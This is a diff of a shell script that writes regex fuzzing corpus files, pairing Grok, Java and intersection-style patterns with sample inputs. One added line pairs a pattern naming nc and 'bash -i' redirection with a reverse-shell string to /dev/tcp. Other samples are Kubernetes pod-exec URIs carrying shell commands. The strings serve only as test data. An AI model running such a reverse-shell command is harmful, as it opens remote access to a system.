@@ -43,6 +43,10 @@ printf '%s' 'from logs-* metadata _id | where a == "x" and b not in (1, 2.5) and
 printf '%s\n%s' '(a*)*b' 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' > .build-fuzz/corpus-regex/nested.txt
 printf '%s\n%s' '/api/v1/namespaces/[^/]+/pods/[^/]+/exec.*' '/api/v1/namespaces/x/pods/p/exec?command=sh' > .build-fuzz/corpus-regex/uri.txt
 printf '%s\n%s' '"q.t"[\d\s\W]{1,3}(x|y|É)+' 'q.t1 éÉx' > .build-fuzz/corpus-regex/classes.txt
+# The same target runs each pattern as Java's and Grok's syntax too: captures, lazy quantifiers, intersections.
+printf '%s\n%s' '%{DATA}/exec\?%{DATA:raw}&(?:container|stdin)=%{GREEDYDATA}' '/api/v1/pods/p/exec?command=id&stdin=true' > .build-fuzz/corpus-regex/grok.txt
+printf '%s\n%s' '(?<user>\w+?)@(\d{1,3}\.)+\b$' 'alice@10.0.0.1' > .build-fuzz/corpus-regex/java.txt
+printf '%s\n%s' '.*(nc|bash -i >&|0>&1).*&.*\s.*' 'bash -i >& /dev/tcp/x 0>&1' > .build-fuzz/corpus-regex/intersection.txt
 
 # The time is split: two sevenths to decoding (the attack surface of every record), a seventh to each other target.
 status=0
